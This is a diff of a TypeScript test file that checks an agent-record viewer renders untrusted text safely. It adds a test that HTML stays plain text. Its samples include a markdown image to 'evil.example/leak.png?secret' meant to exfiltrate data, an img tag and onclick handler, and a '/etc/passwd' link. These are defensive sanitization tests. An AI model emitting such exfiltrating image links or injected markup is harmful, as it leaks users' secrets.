@@ -46,7 +46,15 @@ function foreign(root: Element): string[] {
 
 /** A record in which everything that can come from outside is the attack. */
 function full(attack: string): RunRecord {
-  const table = { ...TABLE, name: attack, columns: [attack], index: [attack], rows: [[attack]], numeric: [], shape: [1, 1] };
+  const table = {
+    ...TABLE,
+    name: attack,
+    columns: [attack],
+    index: [attack],
+    rows: [[attack]],
+    numeric: [],
+    shape: [1, 1]
+  };
   const outputs = [
     { 'application/vnd.agent-magic.table+json': table },
     { 'text/plain': attack, 'text/html': attack, 'image/svg+xml': attack, 'application/javascript': attack },
@@ -56,14 +64,29 @@ function full(attack: string): RunRecord {
   ];
   const values = { [attack]: attack, code: attack, list: [attack], lines: `\n${attack}` };
   const words = { name: attack, summary: attack, arguments: values, error: attack, result: attack, progress: attack };
-  const plain = (kind: string, place: number): Item => ({ id: `p${place}`, kind, state: 'done', text: attack, title: attack, outputs });
+  const plain = (kind: string, place: number): Item => ({
+    id: `p${place}`,
+    kind,
+    state: 'done',
+    text: attack,
+    title: attack,
+    outputs
+  });
   return record(
     [
       ...['user', 'context', 'thinking', 'text', 'error', 'note', 'media', attack].map(plain),
-      ...(['pending', 'running', 'done', 'failed', 'denied', 'aborted', attack] as Item['state'][]).map((state, place) =>
-        call(`c${place}`, { ...words, state, outputs })
+      ...(['pending', 'running', 'done', 'failed', 'denied', 'aborted', attack] as Item['state'][]).map(
+        (state, place) => call(`c${place}`, { ...words, state, outputs })
       ),
-      question('q1', { call_id: 'none', name: attack, reason: attack, arguments: values, effect: attack, hash: attack, text: attack }),
+      question('q1', {
+        call_id: 'none',
+        name: attack,
+        reason: attack,
+        arguments: values,
+        effect: attack,
+        hash: attack,
+        text: attack
+      }),
       question('q2', { call_id: 'none', state: 'denied', name: attack }),
       question('q3', { call_id: 'none', state: attack as Item['state'], name: attack })
     ],
@@ -71,7 +94,11 @@ function full(attack: string): RunRecord {
   );
 }
 
-const actions = { stop: async () => undefined, shown: () => undefined, answer: async () => Promise.reject(new Error('no')) };
+const actions = {
+  stop: async () => undefined,
+  shown: () => undefined,
+  answer: async () => Promise.reject(new Error('no'))
+};
 
 test.each(attacks)('%j is only shown', attack => {
   const place = document.createElement('div');
@@ -92,25 +119,37 @@ test.each(attacks)('%j is only shown while it comes in', attack => {
   const place = document.createElement('div');
   const view = new RecordView(place, { actions });
   for (let end = 1; end <= attack.length; end += 3) {
-    view.update(record([{ id: '1', kind: 'text', state: 'running', text: attack.slice(0, end) }], { state: 'running' }));
+    view.update(
+      record([{ id: '1', kind: 'text', state: 'running', text: attack.slice(0, end) }], { state: 'running' })
+    );
     (view as unknown as { draw(): void }).draw();
     expect(foreign(place)).toEqual([]);
   }
   view.dispose();
 });
 
+test('markup is text', () => {
+  const place = document.createElement('div');
+  const words = 'a <b>b</b> <img src="https://evil.example/x.png"> <!-- c -->\n\n<div onclick="x()">d</div>';
+  new RecordView(place).update(record([{ id: '1', kind: 'text', state: 'done', text: words }]));
+  expect([...place.querySelectorAll('.am-prose p')].map(each => each.textContent)).toEqual(words.split('\n\n'));
+});
+
 test('a picture from elsewhere is a link, one that holds its data is shown', () => {
   const place = document.createElement('div');
   const words = `![chart](https://evil.example/leak.png?secret) ![dot](data:image/png;base64,${PNG}) ![x](data:image/svg+xml;base64,PHN2Zz4=)`;
   new RecordView(place).update(record([{ id: '1', kind: 'text', state: 'done', text: words }]));
-  expect([...place.querySelectorAll('img')].map(picture => [picture.alt, picture.src])).toEqual([['dot', `data:image/png;base64,${PNG}`]]);
+  expect([...place.querySelectorAll('img')].map(picture => [picture.alt, picture.src])).toEqual([
+    ['dot', `data:image/png;base64,${PNG}`]
+  ]);
   expect(place.querySelector('a')!.textContent).toBe('chart');
   expect(place.querySelector('a')!.href).toBe('https://evil.example/leak.png?secret');
 });
 
 test('a link to anything but the web and mail is not followed', () => {
   const place = document.createElement('div');
-  const words = '[a](https://a.example) [b](mailto:b@b.example) [c](/etc/passwd) [d](#top) [e](notebook.ipynb) [f](//f.example)';
+  const words =
+    '[a](https://a.example) [b](mailto:b@b.example) [c](/etc/passwd) [d](#top) [e](notebook.ipynb) [f](//f.example)';
   new RecordView(place).update(record([{ id: '1', kind: 'text', state: 'done', text: words }]));
   expect([...place.querySelectorAll('a')].map(link => link.getAttribute('href'))).toEqual([
     'https://a.example',
